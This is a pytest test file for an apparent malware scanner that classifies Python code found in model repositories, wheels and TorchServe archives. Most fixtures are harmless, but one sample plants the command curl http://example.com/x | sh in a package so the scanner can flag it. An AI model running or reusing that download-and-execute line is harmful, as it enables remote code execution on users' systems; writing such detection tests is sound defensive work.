"""Python programs as files of a repository."""

from __future__ import annotations

import pytest
from tests.samples.archive import torch_zip
from tests.samples.repos import FAMILIES
from tests.samples.zipcraft import archive
from tests.support.judging import judged

from hanse.flows.rulesets import builtin_ruleset
from hanse.model.finding import Coverage, Verdict
from hanse.scan.dispatch import extract
from hanse.scan.repocode import claims
from hanse.scan.source import BytesSource
from hanse.scan.verdict import judge


def verdict(text: str, path: str = "modeling_x.py") -> Verdict:
    """Return the verdict on a program."""
    return judge(extract(BytesSource(text.encode())), path, builtin_ruleset()).verdict


@pytest.mark.parametrize("name", FAMILIES)
def test_families(name: str) -> None:
    """Every sample that acts is malicious; its benign twins are read whole and served."""
    for sample in FAMILIES[name].malicious:
        found = judge(extract(BytesSource(sample.data)), sample.path, builtin_ruleset())
        assert found.verdict is Verdict.MALICIOUS, sample
    for sample in FAMILIES[name].benign:
        found = judge(extract(BytesSource(sample.data)), sample.path, builtin_ruleset())
        assert (found.verdict.rank, found.coverage) <= (1, Coverage.COMPLETE), sample


@pytest.mark.parametrize(
    "text",
    [
        '{"eval(": 1, "exec(": [true, null, -1.5e3]}',
        "eval\nexec\n__import__\nos.system\n",
        "im port\nimport s\nĠimport ant\n",
        "<html><script>eval(x)</script></html>",
        "a,b\n1,2\n",
        "",
    ],
)
def test_other_texts(text: str) -> None:
    """Vocabularies, tables and markup are no programs, whatever words they hold."""
    data = text.encode()
    if claims(data[:4096], BytesSource(data)):
        (view,) = extract(BytesSource(data)).of("python")
        assert view.stopped is None
    assert verdict(text, "vocab.txt") is Verdict.SAFE


def test_name_decides() -> None:
    """A program under a name that nobody imports is not run."""
    program = 'import os\nos.system("echo hanse-test")\n'
    assert verdict(program) is Verdict.MALICIOUS
    assert verdict(program, "README.md") is Verdict.SAFE


def test_unread() -> None:
    """A module in which no program was found is not passed in silence."""
    assert verdict('["a", 1]') is Verdict.SUSPICIOUS
    assert verdict("# nothing\n") is Verdict.SAFE
    assert verdict("word\0\1" * 9) is Verdict.SUSPICIOUS


@pytest.mark.parametrize(
    "text", ["pass\n", "...\n", "__all__ += ['a']\n", "x, y = 1, 2\n", "\n" * 20 + "pass", "print 'x'\n", "(a := 1)"]
)
def test_short(text: str) -> None:
    """A module of a line or two is read by the parser, whatever it begins with; what Python refuses does nothing."""
    assert verdict(text, "x/__init__.py") is Verdict.CAUTION


def test_words_are_no_view() -> None:
    """Lists of words and numbers are no programs, so that archives of them cost nothing."""
    for data in (b"little", b"1\n", b"alpha\nbeta\n", b"1, 2\n3, 4\n", b"pass\n"):
        assert not claims(data, BytesSource(data)), data


def test_compiled_source() -> None:
    """TorchScript is no Python that is imported, but what would act if it were is said all the same."""
    for program, rules in (
        (b"def f(x):\n  return x\n", set()),
        (b"import os\nos.system('echo hanse-test')\n", {"PYTHON-PROCESS-LOAD"}),
    ):
        data = archive(*torch_zip(**{"code__m.py": program}))
        found = judge(extract(BytesSource(data)), "a.pt", builtin_ruleset())
        assert {one.rule for one in found.findings} & {"PYTHON-CODE", "PYTHON-PROCESS-LOAD"} == rules


def test_short_but_encoded() -> None:
    """A short text in an encoding of its own is not taken for what its bytes show."""
    assert verdict("# coding: utf-7\n+AGkAbQBwAG8AcgB0-\n") is Verdict.SUSPICIOUS


def test_encoding() -> None:
    """A declared encoding that shows a reader other text than Python is a finding."""
    assert verdict("# coding: unicode_escape\nx = 1\nprint(x)\n") is Verdict.SUSPICIOUS
    assert verdict("# -*- coding: latin-1 -*-\nprint(1)\n") is Verdict.CAUTION


def test_size() -> None:
    """A program that is too long to read is inconclusive, not safe."""
    facts = extract(BytesSource(b"import os\n" + b"x = 1\n" * 400_000))
    found = judge(facts, "x.py", builtin_ruleset())
    assert found.coverage is Coverage.INCONCLUSIVE
    assert found.executes


@pytest.mark.soak
def test_tables() -> None:
    """A long table of constants is inconclusive for nobody but whoever would import it."""
    data = BytesSource(b'"word"\n' * 500_000)
    facts = extract(data)
    assert judge(facts, "words.txt", builtin_ruleset()).coverage is Coverage.COMPLETE
    module = judge(facts, "words.py", builtin_ruleset())
    assert module.verdict is Verdict.SUSPICIOUS or (module.coverage is Coverage.INCONCLUSIVE and module.executes)


def test_constants() -> None:
    """A module of constants is a program, one of comments is nothing."""
    assert verdict("# a table\nTABLE = (\n    1,\n)\n") is Verdict.CAUTION
    assert verdict('"""Words."""\n') is Verdict.CAUTION


ODD = b"import subprocess, sys\nsubprocess.run([sys.argv[1]])\n"


def test_programs_that_no_loader_runs_are_cautions() -> None:
    """What is only suspicious is so where a loader imports it: in a repository or TorchServe's archive, not in a wheel."""
    assert judged(ODD, "modeling_x.py").verdict is Verdict.SUSPICIOUS
    assert judged(archive(("pkg/cli.py", ODD)), "pkg-1.0-py3-none-any.whl").verdict is Verdict.CAUTION
    served = archive(("handler.py", ODD), ("MAR-INF/MANIFEST.json", b'{"runtime": "python"}'))
    assert judged(served, "model.mar").verdict is Verdict.SUSPICIOUS
    attack = b"import os\nos.system('curl http://example.com/x | sh')\n"
    assert judged(archive(("pkg/cli.py", attack)), "pkg.whl").verdict is Verdict.MALICIOUS


def test_members_that_are_no_modules_are_not_read() -> None:
    """Documentation in a wheel costs nothing."""
    facts = extract(BytesSource(archive(("README.md", b"import os\n"), ("a.py", b"import os\n"))))
    assert {view.member: view.first("python.program") is not None for view in facts.of("python")} == {
        "README.md": False,
        "a.py": True,
    }
